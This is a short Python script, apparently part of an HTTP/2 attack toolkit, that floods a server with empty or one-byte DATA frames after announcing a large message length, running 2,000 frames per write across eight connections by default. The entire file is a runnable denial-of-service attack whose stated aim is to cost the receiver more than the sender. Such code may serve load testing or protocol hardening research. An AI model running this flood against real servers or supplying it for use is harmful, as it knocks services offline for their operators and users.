"""DATA frames without a byte, or with one: --bytes 1. Each costs the receiver more than the sender."""
from attack_program import MATCH_STREAM, program
from h2wire import DATA, END_HEADERS, HEADERS, frame, request_block

AT_ONCE = 2_000


def run(attack):
    headers = request_block(MATCH_STREAM)
    prefix = b"\x00" + (4_000_000).to_bytes(4, "big")

    def block(connection, _):
        begin = b""
        if connection.next_stream == 1:
            begin = frame(HEADERS, END_HEADERS, connection.stream(), headers) + frame(DATA, 0, 1, prefix)
        return begin + frame(DATA, 0, 1, bytes(attack.options.bytes)) * AT_ONCE
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=2_000_000, connections=8, megabytes=40, bytes=0)
